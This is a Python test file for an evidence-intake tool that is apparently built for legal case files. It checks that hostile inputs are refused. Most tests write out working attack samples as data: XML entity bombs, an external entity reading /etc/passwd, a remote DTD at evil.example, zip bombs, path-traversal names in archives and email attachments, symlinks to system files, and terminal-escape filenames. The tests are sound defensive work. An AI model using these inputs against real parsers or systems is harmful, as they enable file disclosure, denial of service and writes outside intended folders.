"""Files made to harm whoever opens them, and files that move while they are taken in."""

from __future__ import annotations

import io
import os
import shutil
import unicodedata
import zipfile
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path

import pytest

from legalkit.casefile.read import read_case
from legalkit.cli import root
from legalkit.cli.run import run
from legalkit.evidence import take
from legalkit.evidence.gather import PROPOSED, Gathered, gather, proposed
from legalkit.evidence.intake import add, intake, verify
from legalkit.evidence.readers import read_bytes
from legalkit.evidence.readers.guard import MOST_BYTES
from legalkit.law.evidence_sheet import EvidenceSheet
from legalkit.law.load import load_sheet
from legalkit.model.errors import EvidenceError

EXAMPLE = Path(__file__).parents[2] / "examples" / "suzhou-chengdu"
SHEET = load_sheet("CN", "evidence.yaml", EvidenceSheet)
AT = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)


@pytest.fixture
def case(tmp_path: Path) -> Path:
    folder = tmp_path / "case"
    shutil.copytree(EXAMPLE, folder, ignore=shutil.ignore_patterns("custody.*", "out"))
    intake(folder, AT, "顾")
    gather(folder, read_case(folder).require(), SHEET, [], AT, "顾")
    (folder / PROPOSED).unlink(missing_ok=True)
    return folder


@pytest.fixture
def pile(tmp_path: Path) -> Path:
    folder = tmp_path / "pile"
    folder.mkdir()
    return folder


def take_in(case: Path, *sources: Path) -> Gathered:
    return gather(case, read_case(case).require(), SHEET, sources, AT, "顾")


def codes(content: bytes, name: str) -> list[str]:
    return [finding.code for finding in read_bytes(content, name).findings]


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


# ------------------------------------------------------------------------------------------- XML
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><EInvoice>&c;</EInvoice>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><EInvoice>&f;</EInvoice>'
REMOTE = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><Invoice/>'


@pytest.mark.parametrize("content", [LAUGHS, OUTSIDE, REMOTE])
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_entities_in_an_e_invoice_are_refused(content: bytes, charset: str) -> None:
    read = read_bytes(content.decode().encode(charset), "invoice.xml")
    assert [f.code for f in read.findings] == ["LK562"]
    assert not read.text and read.amount is None and "root:" not in str(read)


def test_xml_without_bottom_is_refused() -> None:
    assert codes(b"<a>" * 200 + b"</a>" * 200, "deep.xml") == ["LK562"]
    assert codes(b"<a>" + b"<b/>" * 500_001 + b"</a>", "wide.xml") == ["LK562"]
    assert codes(b"<a>" + b"x" * (33 << 20) + b"</a>", "long.xml") == ["LK562"]


# ------------------------------------------------------------------------------------------- zip
BODY = b'<w:document xmlns:w="w"><w:t>x</w:t></w:document>'


@pytest.mark.parametrize("name", ["../../evil.txt", "/etc/evil", "C:\\evil", "word/..\\..\\evil"])
def test_docx_that_leads_outside_is_refused(name: str, case: Path) -> None:
    content = zipped({"word/document.xml": BODY, name: b"evil"})
    assert codes(content, "q.docx") == ["LK562"]


@pytest.mark.parametrize("suffix", [".docx", ".xlsx"])
def test_zip_bombs_are_refused_unopened(suffix: str) -> None:
    bomb = zipped({"word/document.xml": BODY, "xl/bomb.xml": b"\x00" * (60 << 20)})
    assert codes(bomb, f"bomb{suffix}") == ["LK562"]
    many = zipped({f"x{n}": b"" for n in range(10_001)})
    assert codes(many, f"many{suffix}") == ["LK562"]


def test_docx_with_two_texts_of_one_name_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", BODY)
        archive.writestr("word/document.xml", BODY.replace(b"x", b"y"))
    assert codes(out.getvalue(), "two.docx") == ["LK562"]


def test_docx_with_entities_and_damaged_members() -> None:
    assert codes(zipped({"word/document.xml": LAUGHS}), "q.docx") == ["LK562"]
    good = zipped({"word/document.xml": BODY * 200})
    torn = good[:60] + b"\xff" * 40 + good[100:]
    assert codes(torn, "q.docx") == ["LK561"]
    lying = bytearray(zipped({"word/document.xml": BODY}))
    place = lying.rindex(b"PK\x01\x02")
    lying[place + 24 : place + 28] = (5).to_bytes(4, "little")
    assert codes(bytes(lying), "q.docx")[0] in ("LK561", "LK562")


def test_workbook_with_a_million_wide_rows_is_cut_and_huge_fields_too() -> None:
    read = read_bytes(b"time,from,text\n2024-01-02,He," + b"x" * 3_000_000 + b"\n", "c.csv")
    assert all(len(value) <= 100_000 for row in read.rows for value in row.values())


def test_files_beyond_the_limit_are_in_custody_and_unread(case: Path, pile: Path) -> None:
    with (pile / "video.mp4").open("wb") as stream:
        stream.truncate(MOST_BYTES + 1)
    done = take_in(case, pile / "video.mp4")
    assert [f.code for f in done.findings] == ["LK573"] and len(done.records) == 1
    assert verify(case).ok


# ------------------------------------------------------------------------------------------ mail
def letter(*parts: tuple[str, bytes]) -> bytes:
    message = EmailMessage()
    message["From"], message["Date"] = "a@b.example", "Thu, 22 Aug 2024 10:00:00 +0800"
    message["Message-ID"] = "<9@b>"
    message.set_content("see attachment")
    for name, content in parts:
        message.add_attachment(
            content, maintype="application", subtype="octet-stream", filename=name
        )
    return message.as_bytes()


def test_attachments_become_items_and_cannot_leave_their_folder(case: Path, pile: Path) -> None:
    names = ["../../../evil.txt", "C:\\Windows\\evil.txt", "ok.txt", "ok.txt", "CON.txt", "."]
    (pile / "m.eml").write_bytes(
        letter(*((name, name.encode() + bytes([n])) for n, name in enumerate(names)))
    )
    done = take_in(case, pile / "m.eml")
    paths = sorted(r.path or "" for r in done.records)
    assert len(paths) == 7 and all(p == "m.eml" or p.startswith("m.eml.parts/") for p in paths)
    assert not (case.parent / "evil.txt").exists() and verify(case).ok
    assert sum(f.code == "LK568" for f in done.findings) >= 3
    assert {r.reason for r in done.records if r.path != "m.eml"} == {"taken out of m.eml"}


def test_mail_in_mail_in_mail_ends(case: Path, pile: Path) -> None:
    content = letter(("a.txt", b"end"))
    for _ in range(6):
        content = letter(("inner.eml", content))
    (pile / "m.eml").write_bytes(content)
    done = take_in(case, pile / "m.eml")
    assert "LK584" in [f.code for f in done.findings] and verify(case).ok
    nested = b"Content-Type: multipart/mixed; boundary=B\n\n--B\n" * 3000
    assert codes(b"From: a@b\n" + nested, "n.eml") == ["LK561"]


# ---------------------------------------------------------------------------------------- intake
def test_a_file_that_changes_while_it_is_read_is_not_taken(
    case: Path, pile: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = pile / "growing.log"
    source.write_bytes(b"x" * 100)
    honest = take.open_plain

    def restless(path: Path):  # type: ignore[no-untyped-def]
        stream = honest(path)
        if path == source:
            reading = stream.read

            def read(size: int) -> bytes:
                with source.open("ab") as more:
                    more.write(b"y")
                return reading(size)

            return _Wrapped(stream, read)
        return stream

    monkeypatch.setattr(take, "open_plain", restless)
    report = add(case, [source], AT, "顾")
    assert [f.code for f in report.findings] == ["LK572"] and not report.records
    assert not (case / "evidence/growing.log").exists() and not list(case.glob(".incoming-*"))


class _Wrapped:
    def __init__(self, stream: io.BufferedReader, read: object) -> None:
        self.stream, self.read = stream, read

    def __enter__(self) -> _Wrapped:
        return self

    def __exit__(self, *_: object) -> None:
        self.stream.close()

    def fileno(self) -> int:
        return self.stream.fileno()


def test_links_and_pipes_in_a_pile_are_refused(case: Path, pile: Path) -> None:
    (pile / "good.bin").write_bytes(b"good")
    (pile / "link").symlink_to("/etc/passwd")
    (pile / "folder").symlink_to("/etc")
    os.mkfifo(pile / "pipe")
    done = take_in(case, pile)
    assert [r.path for r in done.records] == ["pile/good.bin"]
    assert [f.code for f in done.findings] == ["LK526"] * 3


def test_hard_link_into_the_case_is_not_registered(case: Path, pile: Path) -> None:
    (pile / "twin.pdf").write_bytes(b"twin")
    os.link(pile / "twin.pdf", case / "evidence/twin.pdf")
    report = intake(case, AT, "顾")
    assert [f.code for f in report.findings] == ["LK581"] and not report.records
    copied = add(case, [pile / "twin.pdf"], AT, "顾", into="copies")
    assert [r.path for r in copied.records] == ["copies/twin.pdf"]
    (pile / "twin.pdf").write_bytes(b"changed")
    assert (case / "evidence/copies/twin.pdf").read_bytes() == b"twin"


@pytest.mark.parametrize("inside", [".", "..", "evidence", "evidence/email"])
def test_the_case_is_not_copied_into_itself(case: Path, inside: str) -> None:
    report = add(case, [case / inside], AT, "顾")
    assert [f.code for f in report.findings] == ["LK580"] and not report.records


def test_two_names_of_one_content_and_one_name_of_two(case: Path, pile: Path) -> None:
    (pile / "a").mkdir()
    (pile / "a/x.pdf").write_bytes(b"one")
    (pile / "y.pdf").write_bytes(b"one")
    first = take_in(case, pile)
    assert [f.code for f in first.findings if f.code == "LK530"] == ["LK530"]
    (pile / "y.pdf").write_bytes(b"two")
    again = take_in(case, pile)
    assert [f.code for f in again.findings] == ["LK527"] and again.known == 1
    assert (case / "evidence/pile/y.pdf").read_bytes() == b"one"


def test_names_that_look_alike_are_one_name(case: Path, pile: Path) -> None:
    name = "Übergabe é.pdf"
    (pile / unicodedata.normalize("NFD", name)).write_bytes(b"mac")
    done = take_in(case, pile)
    assert [r.path for r in done.records] == [f"pile/{unicodedata.normalize('NFC', name)}"]
    shutil.rmtree(pile)
    pile.mkdir()
    (pile / unicodedata.normalize("NFC", name)).write_bytes(b"windows")
    assert [f.code for f in take_in(case, pile).findings] == ["LK527"]


def test_second_run_takes_and_proposes_only_what_is_new(case: Path, pile: Path) -> None:
    (pile / "对账单.txt").write_text("对账单\n余额 1,000.00", encoding="utf-8")
    take_in(case, pile)
    before = (case / PROPOSED).read_text(encoding="utf-8")
    (case / PROPOSED).write_text(before + "# 人工备注：已核对", encoding="utf-8")
    again = take_in(case, pile)
    assert not again.records and not again.proposals and again.known == 1
    (pile / "新.txt").write_text("送货单\n单号：SH-1", encoding="utf-8")
    third = take_in(case, pile)
    after = (case / PROPOSED).read_text(encoding="utf-8")
    assert len(third.records) == 1 and after.startswith(before + "# 人工备注：已核对\n---")
    ids = [entry["id"] for entry in proposed(case)]
    assert len(ids) == len(set(ids)) == 2 and after.count("送货单") >= 1


def test_a_run_that_broke_off_is_finished_by_the_next(case: Path, pile: Path) -> None:
    (pile / "a.txt").write_bytes(b"one")
    add(case, [pile / "a.txt"], AT, "顾")
    done = take_in(case, pile / "a.txt")
    assert not done.records and [p.values["file"] for p in done.proposals] == ["a.txt"]


def test_case_yaml_is_never_touched_and_a_broken_list_stays(case: Path, pile: Path) -> None:
    before = (case / "case.yaml").read_bytes()
    (case / PROPOSED).write_text("evidence: [", encoding="utf-8")
    (pile / "a.txt").write_bytes(b"one")
    with pytest.raises(EvidenceError) as caught:
        take_in(case, pile)
    assert caught.value.findings[0].code == "LK583"
    assert (case / PROPOSED).read_text(encoding="utf-8") == "evidence: ["
    assert (case / "case.yaml").read_bytes() == before


def test_the_verb_reads_a_folder_and_is_quiet_in_json(
    case: Path, pile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for number in range(25):
        (pile / f"{number}.txt").write_text(f"送货单\n单号：SH-{number}", encoding="utf-8")
    assert run(root, ["evidence", "add", str(case), str(pile), "--who", "顾", "--lang", "zh"]) == 0
    out = capsys.readouterr()
    assert "已登记 25 个文件" in out.out and "文本 25" in out.out and "另有 5 条" in out.out
    assert not out.err
    assert run(root, ["evidence", "add", str(case), str(pile), "--who", "顾"]) == 0
    assert "25 were in custody already" in capsys.readouterr().out
    assert run(root, ["evidence", "add", str(case), "--who", "顾", "--json"]) == 0


def test_progress_is_told_for_each_file(case: Path, pile: Path) -> None:
    (pile / "a.txt").write_bytes(b"a")
    told: list[tuple[str, str]] = []
    parsed = read_case(case).require()
    gather(
        case, parsed, SHEET, [pile], AT, "顾", step=lambda what, name, *_: told.append((what, name))
    )
    assert told == [("take", "pile/a.txt"), ("read", "pile/a.txt")]


def test_names_that_would_steer_the_terminal_are_written_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from legalkit.cli import root
    from legalkit.cli.run import run

    assert run(root, ["case", "new", str(tmp_path / "case")]) == 0
    for name in ("red\x1b[31m.txt", "\u202egnp.exe", "two\nlines.txt"):
        (tmp_path / name).write_text(name)
    sources = [str(p) for p in tmp_path.iterdir() if p.is_file()]
    (tmp_path / "empty\x1b[2J.pdf").write_bytes(b"")
    sources.append(str(tmp_path / "empty\x1b[2J.pdf"))
    capsys.readouterr()
    run(root, ["evidence", "add", str(tmp_path / "case"), *sources, "--who", "Lin", "--quiet"])
    said = capsys.readouterr()
    told = said.out + said.err
    assert "\x1b" not in told and "\u202e" not in told
    assert "\\u001b[31m" in told and "\\u202egnp.exe" in told and "two\\nlines.txt" in told
    assert "\\u001b[2J" in told
